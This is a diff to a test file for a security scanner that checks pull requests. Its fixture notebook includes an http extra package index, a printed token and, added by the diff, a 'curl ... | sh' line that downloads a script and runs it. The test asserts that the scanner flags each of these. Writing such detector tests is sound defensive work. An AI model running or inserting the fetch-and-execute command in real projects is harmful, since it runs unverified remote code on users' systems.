@@ -46,6 +46,7 @@ function risky(edition: number): Files {
     'analysis.ipynb': notebook([
       { type: 'markdown', source: `# Edition ${edition}` },
       '!pip install --extra-index-url http://packages.example.com/simple fastmodels==1.0',
+      '!curl https://example.com/install.sh | sh',
       { type: 'code', source: 'login()', outputs: [outputs.stream(`logged in with ${token}\n`)] },
     ]),
     'requirements.txt': `# edition ${edition}\nlitellm==1.82.7\n`,
@@ -117,8 +118,9 @@ describe('a pull request', () => {
     const found = describeSarif(service.sarifs[0] ?? '');
     expect(found).toContain('model model/weights.pt:1');
     expect(found).toContain(
-      `notebook analysis.ipynb:${lineOf(files, 'analysis.ipynb', '--extra-index-url')}`,
+      `dependency analysis.ipynb:${lineOf(files, 'analysis.ipynb', '--extra-index-url')}`,
     );
+    expect(found).toContain(`notebook analysis.ipynb:${lineOf(files, 'analysis.ipynb', '| sh')}`);
     expect(found).toContain(`secret analysis.ipynb:${lineOf(files, 'analysis.ipynb', token)}`);
     expect(found).toContain('dependency requirements.txt:2');
     expect(server.callsTo(uploads)[0]?.body).toMatchObject({
